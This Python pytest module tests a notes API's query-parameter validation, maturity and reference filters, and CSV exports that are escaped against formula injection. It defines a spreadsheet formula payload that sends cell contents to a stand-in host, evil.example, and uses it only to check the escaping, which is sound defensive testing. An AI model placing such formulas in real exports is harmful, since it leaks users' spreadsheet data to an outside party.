"""Queries of notes: unknown query parameters refused on every route, the filters of GET /v1/notes
(reference, maturity range, updated_since) and CSV of the note list and of provenance (escaped
against formula injection).

The scenario (built once for the module, read only): A (reference INV-1001, due in 30 days) issued
to s1, accepted and split into A1 (s1) and A2 (s2); B (a hostile reference, due in 90 days) issued
to s2; a day later s2 accepts B (B's last change is the only one after that moment)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi import Depends, FastAPI
from fastapi.testclient import TestClient

from service.api.csv_export import safe_cell
from service.api.notes.provenance_csv import COLUMNS as PROVENANCE_COLUMNS
from service.api.notes.schemas import NoteOut
from service.api.problems import install_handlers
from service.api.query_params import reject_unknown_query_parameters
from tests.api.conftest import DAY, Gateway, _Template, configured_gateway
from tests.api.financing import problem

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"invoice")'


def iso(unix: int) -> str:
    return datetime.fromtimestamp(unix, UTC).isoformat().replace("+00:00", "Z")


@dataclass
class World:
    gw: Gateway
    notes: dict[str, str]
    start: int
    a_maturity: int
    b_maturity: int
    after: int


@pytest.fixture(scope="module")
def world(_template: _Template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with configured_gateway(_template, Path(tmp_path_factory.mktemp("queries"))) as gw:
        start = gw.chain.now()
        a_maturity, b_maturity = start + 30 * DAY, start + 90 * DAY
        a = gw.issue("s1", "1000000", reference="INV-1001", maturity=iso(a_maturity))
        assert gw.post("s1", f"/v1/notes/{a}/accept").status_code == 200
        parts = [{"to": gw.ids["s1"], "amount": "600000"}, {"to": gw.ids["s2"], "amount": "400000"}]
        split = gw.post("s1", f"/v1/notes/{a}/split", {"parts": parts})
        assert split.status_code == 200, split.text
        a1, a2 = split.json()["note_ids"]
        b = gw.issue("s2", "500000", reference=HOSTILE, maturity=iso(b_maturity))
        with gw.context.write_lock():
            gw.chain.advance_time(DAY)
        after = gw.chain.now()
        accepted = gw.post("s2", f"/v1/notes/{b}/accept")
        assert accepted.status_code == 200, accepted.text
        yield World(gw, {"A": a, "A1": a1, "A2": a2, "B": b}, start, a_maturity, b_maturity, after)


def ids(world: World, who: str = "auditor", **params: Any) -> list[str]:
    answer = world.gw.get(who, "/v1/notes", **params)
    assert answer.status_code == 200, answer.text
    return [note["id"] for note in answer.json()["items"]]


def names(world: World, *keys: str) -> list[str]:
    return sorted((world.notes[k] for k in keys), key=int)


def rows_of(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.text)))


# ------------------------------------------------------------------ unknown query parameters
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/v1/notes"),
        ("GET", "/v1/notes/{A}"),
        ("GET", "/v1/notes/{A}/provenance"),
        ("GET", "/v1/risk/exposure"),
        ("POST", "/v1/notes/{B}/accept"),
    ],
)
def test_an_unknown_query_parameter_is_a_422_naming_it(world: World, method: str, path: str) -> None:
    url = path.format(**world.notes)
    answer = world.gw.client.request(
        method, url, params={"referense": "INV-1001"}, headers=world.gw.auth("s2")
    )
    body = problem(answer, 422, "invalid-request")
    assert body["unknown_parameters"] == ["referense"]
    assert "referense" in body["detail"]


def test_the_422_lists_the_parameters_the_route_accepts(world: World) -> None:
    body = problem(
        world.gw.client.get("/v1/notes?x=1&y=2", headers=world.gw.auth("s1")), 422, "invalid-request"
    )
    assert body["unknown_parameters"] == ["x", "y"]
    assert {"reference", "maturity_from", "maturity_to", "updated_since", "cursor", "limit", "format"} <= set(
        body["accepted_parameters"]
    )


def test_known_query_parameters_still_work(world: World) -> None:
    assert ids(world, status="split", limit=10) == [world.notes["A"]]


def test_a_repeated_known_parameter_is_not_refused(world: World) -> None:
    answer = world.gw.client.get("/v1/notes?status=split&status=split", headers=world.gw.auth("auditor"))
    assert answer.status_code == 200, answer.text
    assert [n["id"] for n in answer.json()["items"]] == [world.notes["A"]]


def test_query_parameters_of_a_routes_dependencies_are_accepted() -> None:
    def paging(page: int = 1) -> int:
        return page

    app = FastAPI(dependencies=[Depends(reject_unknown_query_parameters)])
    install_handlers(app)

    @app.get("/things")
    def things(page: int = Depends(paging), q: str | None = None) -> dict[str, Any]:
        return {"page": page, "q": q}

    client = TestClient(app)
    assert client.get("/things?page=2&q=x").json() == {"page": 2, "q": "x"}
    assert client.get("/things?pages=2").status_code == 422


# ------------------------------------------------------------------ filters
def test_notes_filter_by_reference_of_the_root(world: World) -> None:
    assert ids(world, reference="INV-1001") == names(world, "A", "A1", "A2")
    assert ids(world, reference=HOSTILE) == [world.notes["B"]]


def test_the_reference_filter_matches_exactly(world: World) -> None:
    assert ids(world, reference="inv-1001") == []
    assert ids(world, reference="INV-100") == []


def test_the_reference_filter_keeps_visibility(world: World) -> None:
    assert ids(world, "s3", reference="INV-1001") == []
    assert ids(world, "s2", reference="INV-1001") == names(world, "A", "A1", "A2")


def test_maturity_from_is_inclusive(world: World) -> None:
    assert ids(world, maturity_from=iso(world.a_maturity)) == names(world, "A", "A1", "A2", "B")
    assert ids(world, maturity_from=iso(world.a_maturity + 1)) == names(world, "B")


def test_maturity_to_is_exclusive(world: World) -> None:
    assert ids(world, maturity_to=iso(world.b_maturity)) == names(world, "A", "A1", "A2")
    assert ids(world, maturity_to=iso(world.b_maturity + 1)) == names(world, "A", "A1", "A2", "B")


def test_a_maturity_date_is_its_midnight_utc(world: World) -> None:
    day_after_a = datetime.fromtimestamp(world.a_maturity + DAY, UTC).date().isoformat()
    assert ids(world, maturity_to=day_after_a) == names(world, "A", "A1", "A2")


def test_maturity_from_after_maturity_to_is_a_422(world: World) -> None:
    answer = world.gw.get(
        "auditor", "/v1/notes", maturity_from=iso(world.b_maturity), maturity_to=iso(world.a_maturity)
    )
    body = problem(answer, 422, "invalid-request")
    assert "maturity_from" in body["detail"]


def test_a_maturity_that_is_not_a_time_is_a_422(world: World) -> None:
    problem(world.gw.get("auditor", "/v1/notes", maturity_from="next tuesday"), 422, "invalid-request")


def test_updated_since_finds_the_notes_changed_at_or_after_the_time(world: World) -> None:
    assert ids(world, updated_since=iso(world.after)) == names(world, "B")
    assert ids(world, updated_since=iso(world.start)) == names(world, "A", "A1", "A2", "B")


def test_updated_since_in_the_future_finds_nothing(world: World) -> None:
    assert ids(world, updated_since=iso(world.after + 365 * DAY)) == []


def test_an_updated_since_that_is_not_a_time_is_a_422(world: World) -> None:
    problem(world.gw.get("auditor", "/v1/notes", updated_since="yesterday"), 422, "invalid-request")


# ------------------------------------------------------------------ CSV
def test_the_note_list_exports_csv_with_a_header_row(world: World) -> None:
    answer = world.gw.get("auditor", "/v1/notes", format="csv")
    rows = rows_of(answer)
    assert 'filename="notes.csv"' in answer.headers["content-disposition"]
    assert rows[0] == list(NoteOut.model_fields)
    assert [r[0] for r in rows[1:]] == ids(world)


def test_the_note_list_csv_is_also_chosen_by_the_accept_header(world: World) -> None:
    answer = world.gw.client.get("/v1/notes", headers={**world.gw.auth("auditor"), "Accept": "text/csv"})
    assert rows_of(answer)[0] == list(NoteOut.model_fields)


def test_the_note_list_csv_escapes_a_hostile_reference_and_keeps_amounts(world: World) -> None:
    rows = rows_of(world.gw.get("auditor", "/v1/notes", format="csv", reference=HOSTILE))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert len(rows) == 2
    assert record["reference"] == "'" + HOSTILE
    assert record["amount"] == "500000"


def test_the_note_list_csv_applies_the_filters_and_visibility(world: World) -> None:
    rows = rows_of(world.gw.get("s3", "/v1/notes", format="csv", reference="INV-1001"))
    assert rows == [list(NoteOut.model_fields)]
    rows = rows_of(world.gw.get("auditor", "/v1/notes", format="csv", maturity_from=iso(world.b_maturity)))
    assert [r[0] for r in rows[1:]] == names(world, "B")


def test_a_csv_page_links_to_the_next(world: World) -> None:
    answer = world.gw.get("auditor", "/v1/notes", format="csv", limit=1)
    first = rows_of(answer)[1][0]
    assert answer.headers["link"] == f'</v1/notes?format=csv&limit=1&cursor={first}>; rel="next"'


def test_an_unknown_format_is_a_422(world: World) -> None:
    problem(world.gw.get("auditor", "/v1/notes", format="xml"), 422, "invalid-request")


def test_provenance_exports_one_csv_row_per_event_in_chain_order(world: World) -> None:
    answer = world.gw.get("s2", f"/v1/notes/{world.notes['A2']}/provenance", format="csv")
    rows = rows_of(answer)
    assert rows[0] == list(PROVENANCE_COLUMNS)
    json_answer = world.gw.get("s2", f"/v1/notes/{world.notes['A2']}/provenance").json()
    assert len(rows) - 1 == sum(len(node["events"]) for node in json_answer["tree"])
    order = [(int(r[11]), int(r[13])) for r in rows[1:]]
    assert order == sorted(order)
    assert {r[2] for r in rows[1:]} == {world.notes[k] for k in ("A", "A1", "A2")}


def test_provenance_csv_escapes_a_hostile_reference(world: World) -> None:
    rows = rows_of(world.gw.get("s2", f"/v1/notes/{world.notes['B']}/provenance", format="csv"))
    assert {r[1] for r in rows[1:]} == {"'" + HOSTILE}


def test_provenance_csv_has_its_own_etag(world: World) -> None:
    path = f"/v1/notes/{world.notes['B']}/provenance"
    as_csv = world.gw.get("s2", path, format="csv")
    as_json = world.gw.get("s2", path)
    assert as_csv.headers["etag"] != as_json.headers["etag"]
    again = world.gw.client.get(
        path,
        params={"format": "csv"},
        headers={**world.gw.auth("s2"), "If-None-Match": as_csv.headers["etag"]},
    )
    assert again.status_code == 304


def test_provenance_csv_keeps_visibility(world: World) -> None:
    answer = world.gw.get("s3", f"/v1/notes/{world.notes['B']}/provenance", format="csv")
    problem(answer, 404, "note-not-found")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_quoted(first: str) -> None:
    assert safe_cell(first + "1+1") == "'" + first + "1+1"


def test_integers_and_plain_text_are_left_as_they_are() -> None:
    assert safe_cell("-1500") == "-1500"
    assert safe_cell("invoice 42") == "invoice 42"


def test_a_provenance_csv_page_links_to_the_next(world: World) -> None:
    path = f"/v1/notes/{world.notes['A2']}/provenance"
    answer = world.gw.get("s2", path, format="csv", limit=1)
    rows = rows_of(answer)
    assert {r[2] for r in rows[1:]} == {world.notes["A"]}
    assert answer.headers["link"] == f'<{path}?format=csv&limit=1&cursor={world.notes["A"]}>; rel="next"'


def test_provenance_csv_carries_the_holders_name_and_display_amount(world: World) -> None:
    rows = rows_of(world.gw.get("s2", f"/v1/notes/{world.notes['A2']}/provenance", format="csv"))
    header = rows[0]
    named = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    a2 = next(r for r in named if r["note_id"] == world.notes["A2"])
    assert a2["holder_name"] == "s2" and a2["amount_display"].startswith("USD ")
